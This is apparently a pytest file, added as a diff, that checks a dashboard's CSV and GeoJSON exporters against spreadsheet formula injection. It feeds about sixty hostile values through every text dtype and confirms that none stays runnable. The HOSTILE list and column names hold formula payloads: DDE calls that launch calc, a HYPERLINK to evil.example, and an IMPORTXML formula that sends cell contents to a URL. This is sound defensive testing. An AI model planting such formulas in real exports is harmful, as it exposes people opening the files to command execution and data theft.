@@ -1,0 +1,307 @@
+"""Every table the product writes, fed hostile text in every dtype that can hold text.
+
+Issue 16, item 3: text stored as a categorical (as the page keeps its table) bypassed the
+spreadsheet neutraliser, and a bare carriage return went out unquoted, so the file read back
+with more rows than were written. Each writer here gets the same ~60 hostile values stored
+as object, categorical, ``StringDtype`` (Python and pyarrow) and ``ArrowDtype`` strings, and
+is read back as a spreadsheet would (Python's ``csv`` module, default dialect) and with
+``pandas.read_csv``: same number of rows, no cell that a spreadsheet would run, every value
+recovered exactly once the one added ``'`` is dropped (:func:`tableexport.restore`).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import unicodedata
+from collections.abc import Callable
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+import pyarrow as pa
+import pytest
+
+from dashboard import arealedger, pipeline, schema
+from dashboard.tableexport import restore, to_csv_bytes, to_csv_text, to_geojson_bytes, write_csv
+
+HOSTILE: list[str] = [
+    # formulas with each prefix
+    '=HYPERLINK("http://evil.example/x","click")',
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
+    # tab-, CR- and LF-led
+    "\t=1+1",
+    "\tplain text after a tab",
+    "\r=1+1",
+    "\rtext after a carriage return",
+    "\n=1+1",
+    # leading white space or invisible characters before a formula
+    " =1+1",
+    "   @SUM(A1)",
+    "\u00a0=1+1",
+    "\u3000=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\u200f@SUM(A1)",
+    "\x0b=1+1",
+    # full-width and other forms NFKC folds to = + - @
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(A1)",
+    "﹦1+1",
+    # line breaks inside a value
+    "a\rb",
+    "a\nb",
+    "a\r\nb",
+    "trailing carriage return\r",
+    "\r",
+    "\r\n",
+    "two\r\rbreaks\n\nhere",
+    # quotes and delimiters
+    'say "hi"',
+    '"',
+    '""=1+1"',
+    "a,b",
+    "a;b",
+    "=a,b;c",
+    "x,=1+1",
+    # Arabic, emoji, NUL
+    "الموصل",
+    "=الموصل",
+    "داعش\r\nالرقة",
+    "🚀 launch",
+    "=😀",
+    "a\x00b",
+    "\x00=1+1",
+    # a ' already leading
+    "'already quoted",
+    "'=1+1",
+    "''=1+1",
+    "'",
+    "' =1+1",
+    # plain numbers as text: stay as they are
+    "-12.5",
+    "+3",
+    "-1e5",
+    "-.5",
+    # near misses and other text
+    "-",
+    "--",
+    "-12.5 km",
+    "C:\\users",
+    "${7*7}",
+    "{{7*7}}",
+    "1,5",
+    "  ",
+]
+PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+HOSTILE_HEADERS = ["=cmd", "@x", "+y", "-z", "\tcol", " =sp", "＝w", "'=q"]
+STORAGES = ["object", "category", "string", "string[pyarrow]", "arrow"]
+
+
+def live_formula(cell: str) -> bool:
+    """Whether a spreadsheet could run ``cell`` (the rule the module states, written apart)."""
+    if PLAIN_NUMBER.fullmatch(cell):
+        return False
+    if cell.startswith(("\t", "\r")):
+        return True
+    for ch in cell:
+        if ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf"):
+            continue
+        return unicodedata.normalize("NFKC", ch)[:1] in "=+-@"
+    return False
+
+
+def _store(values: list[str], storage: str) -> pd.Series:
+    if storage == "object":
+        return pd.Series(values, dtype=object)
+    if storage == "category":
+        return pd.Series(values, dtype="category")
+    if storage == "arrow":
+        return pd.Series(values, dtype=pd.ArrowDtype(pa.string()))
+    return pd.Series(values, dtype=storage)
+
+
+def hostile_table(storage: str) -> pd.DataFrame:
+    """One row per hostile value; three text columns hold them, one under a hostile name."""
+    n = len(HOSTILE)
+    table = pd.DataFrame(
+        {
+            schema.EVENT_ID: [f"h{i:02d}" for i in range(n)],
+            schema.NOTES: _store(HOSTILE, storage),
+            schema.ACTOR1: _store(HOSTILE[::-1], storage),
+            "=cmd|' /C calc'!A0": _store(HOSTILE[1:] + HOSTILE[:1], storage),
+            schema.LATITUDE: np.linspace(-12.5, 36.5, n),
+            schema.LONGITUDE: np.linspace(40.0, 44.0, n),
+            schema.FATALITIES: [np.nan if i % 3 else float(-i) for i in range(n)],
+        }
+    )
+    return table
+
+
+def _read_with_csv_module(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def _read_with_pandas(data: bytes) -> pd.DataFrame:
+    return pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, encoding="utf-8-sig")
+
+
+# Each writer: the bytes it leaves for a person to open.
+def _download(table: pd.DataFrame, tmp_path: Path) -> bytes:
+    return to_csv_bytes(table)  # the page, compare-mode and set-aside downloads
+
+
+def _csv_file(table: pd.DataFrame, tmp_path: Path) -> bytes:
+    return write_csv(table, tmp_path / "geocoded.csv").read_bytes()  # conflictmap geocode -o
+
+
+def _rejected(table: pd.DataFrame, tmp_path: Path) -> bytes:
+    reasons = table.assign(**{schema.REJECT_REASON: "set aside", schema.SOURCE_ROW: 2})
+    return pipeline.write_rejected(reasons, tmp_path / "out.parquet").read_bytes()
+
+
+def _rejected_areas(table: pd.DataFrame, tmp_path: Path) -> bytes:
+    set_aside = pd.DataFrame(
+        {
+            schema.AREA_SOURCE: table[schema.NOTES],
+            schema.AREA_FEATURE: range(len(table)),
+            schema.CONTROLLER: table[schema.ACTOR1],
+            schema.REJECT_REASON: table["=cmd|' /C calc'!A0"],
+            arealedger.REASON_KIND: table[schema.NOTES],
+            arealedger.AREA_KM2: 1.5,
+        }
+    )
+    ledger = arealedger.ledger_table(set_aside, set_aside.iloc[:0])
+    ledger = ledger.astype({c: table[schema.NOTES].dtype for c in ("file", schema.CONTROLLER)})
+    return pipeline.write_rejected_areas(ledger, tmp_path / "out.parquet").read_bytes()
+
+
+def _cli_csv(table: pd.DataFrame, tmp_path: Path) -> bytes:
+    return to_csv_text(table).encode("utf-8")  # conflictmap compare/check -f csv
+
+
+WRITERS: dict[str, Callable[[pd.DataFrame, Path], bytes]] = {
+    "download": _download,
+    "csv_file": _csv_file,
+    "rejected": _rejected,
+    "rejected_areas": _rejected_areas,
+    "cli_csv": _cli_csv,
+}
+
+
+def _expected_columns(writer: str) -> dict[str, list[str]]:
+    """Hostile text each writer's file must hold, by the column name it writes."""
+    if writer == "rejected_areas":
+        return {
+            "file": HOSTILE,
+            schema.CONTROLLER: HOSTILE[::-1],
+            "reason": HOSTILE[1:] + HOSTILE[:1],
+            arealedger.REASON_KIND: HOSTILE,
+        }
+    return {
+        schema.NOTES: HOSTILE,
+        schema.ACTOR1: HOSTILE[::-1],
+        "=cmd|' /C calc'!A0": HOSTILE[1:] + HOSTILE[:1],
+    }
+
+
+def _sort_key(writer: str) -> str:
+    return "feature" if writer == "rejected_areas" else schema.EVENT_ID
+
+
+@pytest.mark.parametrize("storage", STORAGES)
+@pytest.mark.parametrize("writer", sorted(WRITERS))
+def test_every_csv_writer_reads_back_as_written_and_runs_nothing(writer, storage, tmp_path):
+    data = WRITERS[writer](hostile_table(storage), tmp_path)
+    expected = _expected_columns(writer)
+
+    # The csv module, as a spreadsheet reads: one record per row written, no live formula.
+    records = _read_with_csv_module(data)
+    header, body = records[0], records[1:]
+    assert len(body) == len(HOSTILE), (len(body), len(HOSTILE))
+    assert all(len(r) == len(header) for r in body)
+    live = [c for r in records for c in r if live_formula(c)]
+    assert live == [], live[:5]
+    restored_header = [restore(h) for h in header]
+    for name, values in expected.items():
+        column = [restore(r[restored_header.index(name)]) for r in body]
+        assert column == values
+
+    # pandas: the same rows, the same text.
+    frame = _read_with_pandas(data)
+    assert len(frame) == len(HOSTILE)
+    assert not any(live_formula(str(c)) for c in frame.columns)
+    frame.columns = [restore(c) for c in frame.columns]
+    for name, values in expected.items():
+        assert [restore(v) for v in frame[name]] == values
+
+
+@pytest.mark.parametrize("storage", STORAGES)
+def test_geojson_properties_run_nothing_and_read_back_as_written(storage):
+    table = hostile_table(storage)
+    doc = json.loads(to_geojson_bytes(table).decode("utf-8"))
+    features = doc["features"]
+    assert len(features) == len(HOSTILE)
+    for feature in features:
+        for key, value in feature["properties"].items():
+            assert not live_formula(key), key
+            assert not (isinstance(value, str) and live_formula(value)), (key, value)
+    for name, values in _expected_columns("download").items():
+        key = next(k for k in features[0]["properties"] if restore(k) == name)
+        assert [restore(f["properties"][key]) for f in features] == values
+    # Numbers stay numbers; a negative count is not touched.
+    assert features[0]["properties"][schema.LATITUDE] == -12.5
+    assert features[3]["properties"][schema.FATALITIES] == -3
+
+
+@pytest.mark.parametrize("storage", STORAGES)
+def test_hostile_column_names_are_neutralised_and_recoverable(storage):
+    table = pd.DataFrame({name: _store(["ok", "=1+1"], storage) for name in HOSTILE_HEADERS})
+    records = _read_with_csv_module(to_csv_bytes(table))
+    assert not any(live_formula(h) for h in records[0])
+    assert [restore(h) for h in records[0]] == HOSTILE_HEADERS
+    assert records[2] == ["'=1+1"] * len(HOSTILE_HEADERS)
+    props = json.loads(to_geojson_bytes(table))["features"][0]["properties"]
+    assert [restore(k) for k in props] == HOSTILE_HEADERS
+
+
+class _Note:
+    """An object that is not a ``str`` but prints as a formula."""
+
+    def __init__(self, text: str) -> None:
+        self.text = text
+
+    def __str__(self) -> str:
+        return self.text
+
+
+def test_objects_that_are_not_str_are_written_as_neutralised_text():
+    table = pd.DataFrame(
+        {
+            "mixed": pd.Series(
+                [_Note("=1+1"), -12.5, 3, {"a": "=b"}, None, pd.Timestamp("2017-11-09")],
+                dtype=object,
+            ),
+            "interval": pd.Series(pd.period_range("2017-01", periods=6, freq="M")),
+            "codes": pd.Series([-1, 2, -1, 2, 3, -4], dtype="category"),
+        }
+    )
+    rows = _read_with_csv_module(to_csv_bytes(table))[1:]
+    assert [r[0] for r in rows] == ["'=1+1", "-12.5", "3", "{'a': '=b'}", "", "2017-11-09T00:00:00"]
+    assert [r[2] for r in rows] == ["-1", "2", "-1", "2", "3", "-4"]  # numbers, untouched
+    props = [f["properties"] for f in json.loads(to_geojson_bytes(table))["features"]]
+    assert [p["mixed"] for p in props][:3] == ["'=1+1", -12.5, 3]
+    assert [p["codes"] for p in props] == [-1, 2, -1, 2, 3, -4]
+
+
+def test_a_bare_carriage_return_is_quoted_and_rows_end_with_lf():
+    table = pd.DataFrame({"a": pd.Series(["x\ry", "z"], dtype="category"), "b": [1, 2]})
+    assert to_csv_text(table) == 'a,b\n"x\ry",1\nz,2\n'
